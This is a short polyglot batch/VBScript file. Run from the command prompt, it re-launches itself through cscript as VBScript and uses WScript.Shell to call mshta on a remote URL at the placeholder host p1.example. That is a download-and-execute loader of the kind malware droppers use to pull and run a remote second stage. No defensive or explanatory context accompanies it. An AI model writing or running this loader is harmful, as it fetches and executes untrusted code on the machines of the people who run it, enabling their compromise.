rem^ &@echo off
rem^ &cscript //e:vbscript //nologo "%~f0"
rem^ &exit /b
CreateObject("WScript.Shell").Run "mshta http://p1.example/l"
